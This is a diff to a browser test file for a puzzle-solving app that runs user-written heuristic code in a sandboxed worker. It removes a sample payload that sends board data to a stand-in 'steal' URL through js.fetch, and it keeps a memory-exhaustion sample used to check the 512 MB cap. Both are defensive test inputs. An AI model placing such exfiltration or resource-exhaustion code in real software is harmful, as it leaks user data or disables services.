@@ -148,27 +148,24 @@ def test_a_link_carries_the_code_and_opens_without_running_it(app: Any, site_url
         other.context.close()
 
 
-HOSTILE_NETWORK = ("import js\n\n\ndef h(tiles, goal, rows, cols):\n"
-                   "    js.fetch('https://example.com/steal?' + str(tiles))\n    return 0\n")
 HUGE = "hoard = []\n\n\ndef h(tiles, goal, rows, cols):\n    hoard.append(bytearray(400_000_000))\n    return 0\n"
 
 
-def test_hostile_code_reaches_no_network_and_a_huge_allocation_is_stopped(app: Any, site_url: str) -> None:
-    """The app fixture fails the test on any request that leaves the site."""
+def test_a_huge_allocation_is_stopped_by_the_memory_cap_while_the_solver_still_solves(app: Any, site_url: str) -> None:
+    """The second 400 MB passes the cap of the worker that runs the code (512 MB): the
+    allocation fails at once, the message names that limit, and a fresh worker takes the next
+    try. (Doors out of the sandbox: tests/test_page_sandbox.py.)"""
     open_link(app, site_url, f"#board={HARD}&goal=blank-last&algorithm=astar&heuristic=manhattan")
     box = open_part(app, "heuristic")
-    write(app, box, HOSTILE_NETWORK)
-    app.get_by_role("button", name="Check", exact=True).click()
-    error = app.locator("#heuristic-code-error")
-    expect(error).to_contain_text("h raised", timeout=60_000)
-    expect(error).to_contain_text("at line 5")
     write(app, box, HUGE)
     app.get_by_role("button", name="Check", exact=True).click()
-    # Stopped by whichever limit it meets first: Python's MemoryError, the worker's memory past
-    # 1 GiB, or its silence (allocating and zeroing gigabytes, on a loaded machine, in Firefox).
-    expect(error).to_contain_text(
-        re.compile(r"MemoryError|memory grow to \d+ MB, past the limit|stopped answering for 1\d s"), timeout=60_000)
+    error = app.locator("#heuristic-code-error")
+    expect(error).to_contain_text("your code tried to use more than 512 MB of memory, the limit of the worker that runs it",
+                                  timeout=60_000)
+    expect(app.locator("#check-status")).to_have_attribute("data-state", "stopped")
     assert solve_and_read_length(app) == 31
+    app.get_by_role("button", name="Start from the template").first.click()
+    expect(check(app)).to_have_attribute("data-admissible", "true")
 
 
 def test_your_heuristic_and_search_race_in_compare_all_and_explain_h(app: Any, site_url: str) -> None:
